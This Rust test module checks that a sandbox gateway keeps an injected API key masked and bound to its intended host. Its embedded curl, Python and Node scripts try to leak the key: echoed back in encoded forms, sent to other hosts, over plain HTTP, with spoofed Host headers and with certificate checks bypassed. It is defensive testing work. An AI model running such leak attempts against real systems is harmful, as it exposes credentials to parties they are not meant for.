//! A secret that is used and never seen, searched for everywhere.

use async_trait::async_trait;
use egress::{GatewaySettings, Rule, Secret, SecretSource, SecretValue, Vault};
use sandbox::{ExecRequest, SandboxSpec};
use sandpen_tests::Result;
use sandpen_tests::check::{About, Finding, shortened};
use sandpen_tests::lab::{PATIENCE, Running, Sandbox};
use sandpen_tests::processes::{companions, marked};
use sandpen_tests::random::unique;

use crate::backend::is_installed;
use crate::check::{Check, Control};
use crate::scene::Scene;
use crate::world::visits::{Visit, VisitKind};
use crate::world::{echo, name, search};

pub const CHECKS: &[&dyn Check] = &[&Unseen(Language::Python), &Unseen(Language::Node), &Echoes, &Elsewhere];

const NAME: &str = "API_KEY";
const READY: &str = "READY";

/// Sends the placeholder in a header, a query and a body, prints what comes back, and stays until its input ends.
const PYTHON: &str = r#"
import json, os, sys, urllib.parse, urllib.request
key = os.environ["API_KEY"]
def ask(path, **more):
    request = urllib.request.Request("https://api.example.com" + path, **more)
    answer = urllib.request.urlopen(request, timeout=20).read().decode()
    print(answer)
    open("answers", "a").write(answer)
ask("/header", headers={"Authorization": "Bearer " + key})
ask("/query?" + urllib.parse.urlencode({"key": key}))
ask("/body", data=json.dumps({"key": key}).encode(), headers={"Content-Type": "application/json"})
print("READY", flush=True)
sys.stdin.read()
"#;

const NODE: &str = r#"
const key = process.env.API_KEY;
async function ask(path, more) {
    const answer = await (await fetch("https://api.example.com" + path, more)).text();
    console.log(answer);
    require("fs").appendFileSync("answers", answer);
}
(async () => {
    await ask("/header", {headers: {Authorization: "Bearer " + key}});
    await ask("/query?" + new URLSearchParams({key}));
    await ask("/body", {method: "POST", body: JSON.stringify({key}), headers: {"Content-Type": "application/json"}});
    console.log("READY");
    process.stdin.resume();
})().catch(error => { console.error(error); process.exit(1); });
"#;

#[derive(Clone, Copy, Debug)]
enum Language {
    Python,
    Node,
}

impl Language {
    fn program(self) -> &'static str {
        match self {
            Self::Python => "python3",
            Self::Node => "node",
        }
    }

    fn argv(self, mark: &str) -> Vec<String> {
        let (flag, code) = match self {
            Self::Python => ("-c", PYTHON),
            Self::Node => ("-e", NODE),
        };
        let argv = ["/usr/bin/env", self.program(), flag, code, mark];
        argv.map(str::to_owned).to_vec()
    }
}

/// Uses a secret and searches for it: output, environment, memory, files, arguments.
struct Unseen(Language);

#[async_trait]
impl Check for Unseen {
    fn about(&self) -> About {
        match self.0 {
            Language::Python => About {
                id: "SE-07-python",
                tries: "uses a secret from Python in a header, a query and a body; searches its output, and environment, arguments, memory and files of all processes inside",
                stopped_by: "placeholders, and answers that are masked",
            },
            Language::Node => About {
                id: "SE-07-node",
                tries: "uses a secret from Node in a header, a query and a body; searches its output, and environment, arguments, memory and files of all processes inside",
                stopped_by: "placeholders, and answers that are masked",
            },
        }
    }

    fn controls(&self) -> Vec<Control> {
        vec![Control::Forgetting(&[Rule::Masking])]
    }

    async fn run(&self, scene: &Scene) -> Result<Finding> {
        if !is_installed(self.0.program()) {
            return Ok(Finding::Skip(format!("{} is not installed", self.0.program())));
        }
        let value = secret_value();
        let (scene, sandbox) = sandbox_with(scene, &value, &name("api")).await?;
        let mark = unique("mark");
        let request = ExecRequest::new(self.0.argv(&mark), PATIENCE)?;
        let (mut running, said) = until_ready(&scene, &sandbox, request).await?;
        let inside = marked(&mark).first().map(companions).unwrap_or_default();
        let pids: Vec<u32> = inside.iter().map(|process| process.pid).collect();
        if pids.len() < 2 {
            return Err(format!("only {} processes are seen inside", pids.len()).into());
        }
        let mut found = scene.oracle.search(&value, &pids, &[], &[])?;
        if said.contains(&value) {
            found.push("its output".to_owned());
        }
        drop(running.stdin.take());
        running.finish().await?;
        sandbox.end().await?;
        let came = scene.oracle.visits()?;
        for part in ["/header", "/query", "/body"] {
            let arrived = came.iter().any(|visit| carries(visit, part, &value));
            if !arrived {
                let seen: Vec<String> = came
                    .iter()
                    .filter(|visit| visit.kind == VisitKind::Request)
                    .map(|visit| visit.text.clone())
                    .collect();
                return Err(format!("the value did not arrive with {part}: {}", shortened(&seen)).into());
            }
        }
        Ok(Finding::from_breaches(&found, format!("used three times, not found in {} processes", pids.len())))
    }
}

/// Gets its secret back in every way that a host might give it back.
struct Echoes;

#[async_trait]
impl Check for Echoes {
    fn about(&self) -> About {
        About {
            id: "SE-07-echoes",
            tries: "hosts that give a secret back byte by byte, in headers, redirects and errors, escaped, as base64 and compressed",
            stopped_by: "answers that are masked, and refused where they cannot be read",
        }
    }

    fn controls(&self) -> Vec<Control> {
        vec![Control::Forgetting(&[Rule::Masking])]
    }

    async fn run(&self, scene: &Scene) -> Result<Finding> {
        if !is_installed("curl") {
            return Ok(Finding::Skip("curl is not installed".to_owned()));
        }
        let value = secret_value();
        let (scene, sandbox) = sandbox_with(scene, &value, &name("api")).await?;
        let ways = echo::WAYS.join(" ");
        let script = format!(
            r#"for way in {ways}; do for more in '' '--compressed' '-H Range:bytes=0-5' '--noproxy *'; do
                set -f; curl -sS -m 20 -i -H "X-Key: $API_KEY" $more "https://api.example.com/echo/$way"; echo; done; done"#
        );
        let ran = sandbox.run_program("/bin/sh", &["-c", &script], "").await?.complete()?;
        sandbox.end().await?;
        let came = scene.oracle.visits()?;
        let arrived = came.iter().filter(|visit| carries(visit, "/echo/", &value)).count();
        if arrived < echo::WAYS.len() * 4 {
            return Err(format!("only {arrived} requests carried the value: {} {}", ran.stdout, ran.stderr).into());
        }
        let hexadecimal: String = value.bytes().map(|byte| format!("{byte:02X}")).collect();
        let escapes = value.bytes().map(|byte| format!("\\u{byte:04x}")).collect::<String>();
        let percent: String = value.bytes().map(|byte| format!("%{byte:02x}")).collect();
        // The middle of the value begins a group of three here, whatever stands before it.
        let encoded = echo::base64(format!("user:{value}").as_bytes());
        let middle = encoded.get(8..24).unwrap_or_default().to_owned();
        let spellings = [
            ("plain", value),
            ("hexadecimal", hexadecimal),
            ("json", escapes),
            ("percent", percent),
            ("base64", middle),
        ];
        let breaches: Vec<String> = spellings
            .iter()
            .filter(|(_, spelling)| ran.stdout.contains(spelling.as_str()))
            .map(|(way, _)| format!("it came back {way}"))
            .collect();
        Ok(Finding::from_breaches(&breaches, format!("{arrived} answers, the value in none of them")))
    }
}

/// Sends a placeholder to hosts that the secret is not for, and without encryption.
struct Elsewhere;

#[async_trait]
impl Check for Elsewhere {
    fn about(&self) -> About {
        About {
            id: "SE-08",
            tries: "sends a placeholder to other hosts, without encryption, with another Host header, and to a server whose certificate is somebody else's",
            stopped_by: "secrets that belong to hosts",
        }
    }

    fn controls(&self) -> Vec<Control> {
        vec![Control::Instrument]
    }

    async fn run(&self, scene: &Scene) -> Result<Finding> {
        self.look(scene, &name("api")).await
    }

    /// The same where the secret is for that other host.
    async fn instrument(&self, scene: &Scene) -> Result<Finding> {
        self.look(scene, &name("public")).await
    }
}

impl Elsewhere {
    async fn look(&self, scene: &Scene, owner: &str) -> Result<Finding> {
        if !is_installed("curl") {
            return Ok(Finding::Skip("curl is not installed".to_owned()));
        }
        let value = secret_value();
        let (scene, sandbox) = sandbox_with(scene, &value, owner).await?;
        let script = r#"
            ask() { curl -sS -m 20 -H "X-Key: $API_KEY" -d "key=$API_KEY" "$@" 2>&1 || true; }
            ask "https://public.example.com/?key=$API_KEY"
            ask "http://public.example.com/?key=$API_KEY"
            ask "http://api.example.com/?key=$API_KEY"
            ask --noproxy '*' "http://api.example.com/?key=$API_KEY"
            ask -k "https://wrong.example.com/?key=$API_KEY"
            ask -H "Host: api.example.com" "http://public.example.com/?key=$API_KEY"
            ask -H "Host: public.example.com" "http://api.example.com/"
            ask --connect-to api.example.com:443:public.example.com:443 -k "https://api.example.com/?key=$API_KEY"
        "#;
        let ran = sandbox.run_program("/bin/sh", &["-c", script], "").await?;
        sandbox.end().await?;
        let came = scene.oracle.visits()?;
        let mut breaches: Vec<String> = came
            .iter()
            .filter(|visit| carries(visit, "", &value))
            .filter(|visit| visit.place != "api" || visit.port != 443)
            .map(|visit| format!("the value arrived: {visit}"))
            .collect();
        if ran.stdout.contains(&value) {
            breaches.push("the value came back".to_owned());
        }
        if came.iter().filter(|visit| visit.kind == VisitKind::Request).count() == 0 {
            return Err(format!("no request arrived anywhere: {}", ran.stdout).into());
        }
        Ok(Finding::from_breaches(&breaches, "placeholders arrived elsewhere, the value did not"))
    }
}

/// With characters that have other spellings in URLs and in JSON.
fn secret_value() -> String {
    format!("{}+/&=\"x", unique("value"))
}

/// Whether a request to this path carries the value, in any spelling that its place would understand.
fn carries(visit: &Visit, path: &str, value: &str) -> bool {
    let percent = search::percent(value);
    let json = value.replace('"', "\\\"");
    visit.kind == VisitKind::Request
        && visit.text.split_whitespace().nth(1).is_some_and(|target| target.starts_with(path))
        && [value, &percent, &json].iter().any(|spelling| visit.text.contains(*spelling))
}

/// A sandbox with the internet and a secret that belongs to `host`.
async fn sandbox_with(scene: &Scene, value: &str, host: &str) -> Result<(Scene, Sandbox)> {
    let secret_name: sandbox::SecretName = NAME.parse()?;
    let mut vault = Vault::default();
    vault.insert(Secret::new(secret_name.clone(), SecretValue::new(value)?, vec![host.parse()?], None)?);
    let scene = scene
        .with_settings(GatewaySettings { secrets: SecretSource::Vault(vault), ..GatewaySettings::default() })
        .await?;
    let spec = SandboxSpec {
        network: sandbox::Network::Internet,
        secrets: [secret_name].into(),
        ..SandboxSpec::new(sandbox::Owner::local())
    };
    let sandbox = scene.lab.sandbox_of(spec).await?;
    Ok((scene, sandbox))
}

async fn until_ready(scene: &Scene, sandbox: &Sandbox, request: ExecRequest) -> Result<(Running, String)> {
    let mut running = Running::of(scene.lab.engine.start(&sandbox.id, &request).await?);
    let mut said = String::new();
    loop {
        match running.line().await {
            Ok(line) if line == READY => return Ok((running, said)),
            Ok(line) => said += &format!("{line}\n"),
            Err(trouble) => {
                let ran = running.finish().await?;
                return Err(format!("{trouble}; it said {said}{} {}", ran.stdout, ran.stderr).into());
            }
        }
    }
}
